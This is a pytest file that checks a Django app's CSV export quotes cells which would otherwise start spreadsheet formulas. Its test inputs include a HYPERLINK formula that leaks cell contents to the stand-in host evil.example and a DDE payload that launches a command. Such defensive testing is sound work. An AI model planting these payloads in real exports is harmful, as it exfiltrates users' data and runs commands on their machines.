"""The CSV export cannot smuggle a formula into a spreadsheet (DESIGN, "Security")."""

import csv
import io

import pytest

from commitments.models import Commitment, Organisation
from commitments.spreadsheet import text_cell

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
]


def exported(client):
    response = client.get("/en/commitments/export.csv")
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    header, *rows = csv.reader(io.StringIO(body))
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("formula", FORMULAS)
def test_texts_that_would_start_a_formula_are_exported_as_text(client, commitment, formula):
    commitment.title = formula
    commitment.promised_text = formula
    commitment.save()
    proposal = commitment.reply.proposal
    proposal.title = formula
    proposal.save()
    Organisation.objects.filter(pk=commitment.lead_organisation_id).update(name=formula)

    (row,) = exported(client)

    for column in ("Title", "Promised text", "Proposal", "Lead organisation"):
        assert row[column] == "'" + formula, column


def test_ordinary_texts_and_numbers_are_exported_unchanged(client, commitment, reply):
    Commitment.objects.filter(pk=commitment.pk).update(progress=0)

    (row,) = exported(client)

    assert row["Title"] == commitment.title
    assert row["Promised text"] == commitment.promised_text
    assert row["Progress (%)"] == "0"
    assert row["ID"] == str(commitment.pk)
    assert row["Reply index number"] == reply.index_number
    assert row["Original target date"] == "2030-12-31"


def test_a_number_stays_a_number_and_only_text_gets_the_quote():
    # For the Excel export to come: a real negative figure is no formula.
    assert text_cell(-5) == -5
    assert text_cell(-1.5) == -1.5
    assert text_cell("-5") == "'-5"
    assert text_cell("") == ""
    assert text_cell("推进中 -5%") == "推进中 -5%"
